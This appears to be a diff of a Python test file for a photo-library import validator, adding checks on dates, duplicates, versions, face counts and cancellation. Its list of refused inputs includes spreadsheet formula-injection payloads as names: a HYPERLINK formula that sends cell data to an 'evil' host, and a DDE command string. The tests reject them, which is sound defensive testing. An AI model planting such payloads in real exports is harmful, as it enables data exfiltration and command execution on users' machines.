@@ -50,6 +50,14 @@ def without(key: str, of: str | None = None) -> dict:
     return document
 
 
+def a_date(first: object) -> dict:
+    return {"photo": "0" * 64, "first": first, "last": "2020-01-02T00:00:00"}
+
+
+def a_turn(quarters: int) -> dict:
+    return {"photo": "0" * 64, "quarters": quarters}
+
+
 INFINITE, NOTHING = float("inf"), float("nan")
 
 REFUSED = [
@@ -78,6 +86,19 @@ REFUSED = [
     (with_person(id=-1), ReasonCode.NUMBER_OUT_OF_RANGE),
     (with_person(born_on="1981-02-30"), ReasonCode.ENTRY_OF_WRONG_KIND),
     (with_person(born_on="9999-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (with_person(born_on="0001-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (with_person(born_on=19810312), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (with_person(born_on="19810312"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (with_person(born_on="2020-W01-1"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document() | {"dates": [a_date(first=20200101)]}, ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document() | {"dates": [a_date(first="2020-01-01")]}, ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document() | {"dates": [a_date(first="2020-01-01T00:00:00+01:00")]}, ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document() | {"turns": [a_turn(1), a_turn(2)]}, ReasonCode.ENTRY_TWICE),
+    (a_document() | {"other_pictures": [{"photo": "0" * 64, "other": "0" * 64}]}, ReasonCode.ENTRY_TWICE),
+    (
+        a_document() | {"faces": a_document()["faces"] * (documents.MOST_FACES_OF_PHOTO + 1)},
+        ReasonCode.TOO_MANY_FACES_OF_PHOTO,
+    ),
     (with_person(name='=HYPERLINK("http://evil/?x="&A1,"click")'), ReasonCode.NAME_IS_A_FORMULA),
     (with_person(name="=cmd|' /C calc'!A0"), ReasonCode.NAME_IS_A_FORMULA),
     (with_person(name="=SUM(A1)", looks_like_formula="yes"), ReasonCode.ENTRY_OF_WRONG_KIND),
@@ -115,6 +136,28 @@ def test_a_file_beyond_any_export_is_not_read(tmp_path: Path):
     with pytest.raises(InvalidInput) as caught:
         documents.read_document(file)
     assert caught.value.code == ProblemCode.EXPORT_TOO_LARGE
+
+
+@pytest.mark.parametrize(
+    ("version", "said"),
+    [
+        (True, ProblemCode.NOT_AN_EXPORT),
+        (1.0, ProblemCode.NOT_AN_EXPORT),
+        ("1", ProblemCode.NOT_AN_EXPORT),
+        (2, ProblemCode.EXPORT_TOO_NEW),
+    ],
+)
+def test_a_version_is_a_whole_number(tmp_path: Path, version, said):
+    (tmp_path / "x.json").write_text(json.dumps(a_document() | {"version": version}))
+    with pytest.raises(InvalidInput) as caught:
+        documents.read_document(tmp_path / "x.json")
+    assert caught.value.code == said
+
+
+def test_a_photo_that_is_named_twice_with_one_turn_is_taken():
+    """As an export of a library with copies does."""
+    document = a_document() | {"turns": [a_turn(1), a_turn(1)]}
+    assert documents.checked(document, "x.json").turns == {"0" * 64: 1}
 
 
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes here")
@@ -209,6 +252,50 @@ def test_a_stopped_import_changes_nothing(family):
     with pytest.raises(Cancelled):
         import_decisions(family.library, a_document(), "x.json", cancel=token)
     assert people.people(family.library.catalog) == []
+
+
+class _CancelledAt(CancelToken):
+    """Cancelled when it has been asked so many times."""
+
+    def __init__(self, times: int) -> None:
+        super().__init__()
+        self.left = times
+
+    def raise_if_cancelled(self) -> None:
+        self.left -= 1
+        if self.left < 0:
+            self.cancel()
+        super().raise_if_cancelled()
+
+
+def many_faces(family, count: int) -> dict:
+    """Drawn faces side by side in the first photo."""
+    photo = photos.photo(family.library.catalog, 1)
+    faces_of_photo = [
+        a_document(photo=photo.content_hash, box=[at % 100 / 100, at // 100 / 100, 0.01, 0.01], rejected=[])["faces"][0]
+        for at in range(count)
+    ]
+    return a_document() | {"faces": faces_of_photo}
+
+
+def test_an_import_can_be_stopped_among_the_faces_of_one_photo(family):
+    token = _CancelledAt(150)  # after two people and all that is compared
+    with pytest.raises(Cancelled):
+        import_decisions(family.library, many_faces(family, 100), "x.json", cancel=token)
+    assert not any(face.drawn for face in faces.faces_of_photo(family.library.catalog, 1))
+
+
+def test_faces_of_a_photo_are_found_again_without_comparing_each_with_each_by_itself(family, monkeypatch):
+    """Ten thousand of them took minutes: their number squared."""
+    document = many_faces(family, 400)
+    import_decisions(family.library, document, "x.json")
+    asked = []
+    one_by_one = Box.iou
+    monkeypatch.setattr(Box, "iou", lambda box, other: asked.append(1) or one_by_one(box, other))
+    again = import_decisions(family.library, document, "x.json")
+    assert (again.faces, again.unmatched) == (400, 0)
+    assert len(asked) <= 2 * 400
+    assert again.edited.changes.photos == frozenset()  # each lay where its own entry says
 
 
 def test_an_import_asks_the_catalogue_once_for_all_people(family, monkeypatch):
